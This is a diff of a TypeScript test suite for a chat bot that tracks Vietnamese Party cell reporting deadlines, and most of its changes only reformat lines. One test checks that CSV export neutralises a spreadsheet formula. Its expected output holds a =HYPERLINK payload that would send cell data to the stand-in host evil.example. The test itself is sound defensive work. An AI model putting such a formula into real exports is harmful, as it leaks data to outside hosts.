@@ -26,7 +26,13 @@ describe('deadlines in chat', () => {
   }
 
   /** Presses a button as `who`; returns the popup text and, if `reply`, the next message. */
-  async function press(who: Who, msg: StoredMessage, data: string, reply = true, force = false): Promise<{ popup: string | undefined; next?: StoredMessage }> {
+  async function press(
+    who: Who,
+    msg: StoredMessage,
+    data: string,
+    reply = true,
+    force = false,
+  ): Promise<{ popup: string | undefined; next?: StoredMessage }> {
     const n = h.emulator.messagesTo(P[who].tg).length;
     const q = h.emulator.pressButton(user(who), msg, data, { force });
     const answer = await h.emulator.waitForCallbackAnswer(q);
@@ -35,8 +41,20 @@ describe('deadlines in chat', () => {
   }
 
   it('announces a deadline for three chi bộ at once; "Đã nộp" stops that unit and shows in status and /hanchot', async () => {
-    const created = await run('deadline', 'add', '--title', 'Báo cáo kế hoạch thực hiện Nghị quyết Đại hội', '--due', '31/12/2026',
-      '--units', 'CB1-BTG,CB2-BTG,CB3-BTG', '--doc', '65-CV/BTGQU', '--by', P.binh.phone);
+    const created = await run(
+      'deadline',
+      'add',
+      '--title',
+      'Báo cáo kế hoạch thực hiện Nghị quyết Đại hội',
+      '--due',
+      '31/12/2026',
+      '--units',
+      'CB1-BTG,CB2-BTG,CB3-BTG',
+      '--doc',
+      '65-CV/BTGQU',
+      '--by',
+      P.binh.phone,
+    );
     expect(created.code, created.err).toBe(0);
     const id = Number(created.out.split('\n')[0]);
     const cb1 = await unitId(h.database, 'CB1-BTG');
@@ -115,7 +133,9 @@ describe('deadlines in chat', () => {
     expect((await run('deadline', 'status', String(id), '--json')).out).toContain('"reported": 1');
 
     // Ngọc (CB1-MT) cannot record for CB2; Hạnh cannot undo Hùng's record.
-    const toNgoc = await h.emulator.waitUntil(() => h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo sơ kết năm')));
+    const toNgoc = await h.emulator.waitUntil(() =>
+      h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo sơ kết năm')),
+    );
     expect((await press('ngoc', toNgoc, `dl:done:${id}:${cb2}`, true, true)).next!.plainText).toContain('Chỉ bí thư, phó bí thư');
     const q2 = h.emulator.pressButton(user('hanh'), h.emulator.lastMessage(P.hanh.tg)!, `dl:undo:${id}:${cb2}`, { force: true });
     expect((await h.emulator.waitForCallbackAnswer(q2)).text).toBe('Chỉ người đã ghi nhận mới hoàn tác được.');
@@ -127,7 +147,13 @@ describe('deadlines in chat', () => {
     expect((await run('deadline', 'status', String(id), '--json')).out).toContain('"reported": 0');
     const audit = await h.db.auditLog.findMany({ where: { target: { startsWith: `deadline:${id}` } }, orderBy: { id: 'asc' } });
     // Ngọc's forged «Đã nộp» and Hạnh's undo of Hùng's record are kept as refused attempts.
-    expect(audit.map((a) => a.action)).toEqual(['deadline.create', 'deadline.report', 'denied:deadlines.report', 'denied:deadlines.undo', 'deadline.report_undo']);
+    expect(audit.map((a) => a.action)).toEqual([
+      'deadline.create',
+      'deadline.report',
+      'denied:deadlines.report',
+      'denied:deadlines.undo',
+      'deadline.report_undo',
+    ]);
     expect(audit.filter((a) => a.action.startsWith('denied:')).map((a) => [a.actorId, a.target])).toEqual([
       [await personId(h.database, 'ngoc'), `deadline:${id}:unit:CB2-BTG`],
       [await personId(h.database, 'hanh'), `deadline:${id}:unit:CB2-BTG`],
@@ -145,7 +171,9 @@ describe('deadlines in chat', () => {
     await h.at('2027-01-01T10:00');
     // The morning digest comes first (the bot "started" at 10:00 and catches up).
     for (const who of ['dung', 'binh'] as const) {
-      const digest = await h.emulator.waitUntil(() => h.emulator.messagesTo(P[who].tg).find((m) => m.plainText.includes('Đơn vị chậm báo cáo')));
+      const digest = await h.emulator.waitUntil(() =>
+        h.emulator.messagesTo(P[who].tg).find((m) => m.plainText.includes('Đơn vị chậm báo cáo')),
+      );
       expect(digest.plainText).toContain('Chi bộ 2 (Phòng Lý luận chính trị) (CB2-BTG) — Bí thư Đặng Văn Hùng, 0913 222 444');
       expect(digest.plainText).not.toContain('CB3-BTG');
     }
@@ -178,7 +206,13 @@ describe('deadlines in chat', () => {
     // Hạnh sees her own unit only, so the count is of the units within her reach (L3).
     expect(info.next!.plainText).toContain('Các đơn vị thuộc phạm vi của đồng chí đã nộp: 0/1');
     // Dũng supervises all three units: he sees the whole count and any unit's status.
-    const dungInfo = await press('dung', h.emulator.lastMessage(P.dung.tg)!, `dl:info:${id}:${await unitId(h.database, 'CB3-BTG')}`, true, true);
+    const dungInfo = await press(
+      'dung',
+      h.emulator.lastMessage(P.dung.tg)!,
+      `dl:info:${id}:${await unitId(h.database, 'CB3-BTG')}`,
+      true,
+      true,
+    );
     expect(dungInfo.next!.plainText).toMatch(/CB3-BTG\): ✅ Đã nộp 09:\d\d 30\/12\/2026 \(Huỳnh Thị Lan\)/);
     expect(dungInfo.next!.plainText).toContain('Các đơn vị đã nộp: 1/3');
   });
@@ -232,7 +266,7 @@ describe('deadlines in chat', () => {
     expect(await h.db.deadline.count({ where: { title: 'Báo cáo kết quả học tập Nghị quyết' } })).toBe(1);
   });
 
-  it('refuses units outside the creator\'s subtree', async () => {
+  it("refuses units outside the creator's subtree", async () => {
     const ngoc = await personId(h.database, 'ngoc');
     await h.db.roleAssignment.create({ data: { personId: ngoc, unitId: await unitId(h.database, 'CB1-MT'), role: 'van_phong' } });
     await say('ngoc', '/hanmoi Báo cáo chuyên đề');
@@ -243,12 +277,26 @@ describe('deadlines in chat', () => {
 
   it('exports a note typed as a spreadsheet formula as text in deadline status --csv (M6)', async () => {
     await outboxDrained(h.db);
-    const created = await run('deadline', 'add', '--title', 'Báo cáo công tác dân vận quý I', '--due', '25/01/2027',
-      '--units', 'CB1-BTG,CB1-MT', '--doc', '3080-CV/BTGTU', '--by', P.binh.phone);
+    const created = await run(
+      'deadline',
+      'add',
+      '--title',
+      'Báo cáo công tác dân vận quý I',
+      '--due',
+      '25/01/2027',
+      '--units',
+      'CB1-BTG,CB1-MT',
+      '--doc',
+      '3080-CV/BTGTU',
+      '--by',
+      P.binh.phone,
+    );
     expect(created.code, created.err).toBe(0);
     const id = Number(created.out.split('\n')[0]);
     const cb1 = await unitId(h.database, 'CB1-BTG');
-    const toHanh = await h.emulator.waitUntil(() => h.emulator.messagesTo(P.hanh.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')));
+    const toHanh = await h.emulator.waitUntil(() =>
+      h.emulator.messagesTo(P.hanh.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')),
+    );
     await h.emulator.waitUntil(() => h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')));
 
     // Hạnh reports and types a spreadsheet formula as the note (M6).
@@ -260,11 +308,13 @@ describe('deadlines in chat', () => {
     const line = csv.out.split('\n').find((l) => l.startsWith('CB1-BTG,'))!;
     expect(line.endsWith(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Chi tiết"")"`)).toBe(true);
     // The note's edit is audited with its value before and after.
-    const noteAudit = await h.db.auditLog.findFirstOrThrow({ where: { action: 'deadline.report_note', target: `deadline:${id}:unit:CB1-BTG` } });
+    const noteAudit = await h.db.auditLog.findFirstOrThrow({
+      where: { action: 'deadline.report_note', target: `deadline:${id}:unit:CB1-BTG` },
+    });
     expect(noteAudit.details).toEqual({ before: null, after: formula });
   });
 
-  it('shows «Chi tiết» of a shared deadline only for the viewer\'s own units (L3)', async () => {
+  it("shows «Chi tiết» of a shared deadline only for the viewer's own units (L3)", async () => {
     const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
     const cb1 = await unitId(h.database, 'CB1-BTG');
     const mt = await unitId(h.database, 'CB1-MT');
@@ -297,8 +347,20 @@ describe('deadlines in chat', () => {
     const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
     const msg = h.emulator.lastMessage(P.ngoc.tg)!;
     const before = h.emulator.messagesTo(P.ngoc.tg).length;
-    for (const data of ['dl:info', 'dl:info:abc', `dl:info:${id}:x`, 'dl:done:1', 'dl:done:0:1', `dl:done:${id}:1e3`, 'dl:done:99999999999:1',
-      `dl:undo:${id}:1:2`, 'dl:nu:zzz', 'dl:nok:1', 'dl:bogus', 'dl:']) {
+    for (const data of [
+      'dl:info',
+      'dl:info:abc',
+      `dl:info:${id}:x`,
+      'dl:done:1',
+      'dl:done:0:1',
+      `dl:done:${id}:1e3`,
+      'dl:done:99999999999:1',
+      `dl:undo:${id}:1:2`,
+      'dl:nu:zzz',
+      'dl:nok:1',
+      'dl:bogus',
+      'dl:',
+    ]) {
       const q = h.emulator.pressButton(user('ngoc'), msg, data, { force: true });
       expect((await h.emulator.waitForCallbackAnswer(q)).text, data).toBe('Nút này đã cũ, vui lòng gõ lại lệnh.');
     }
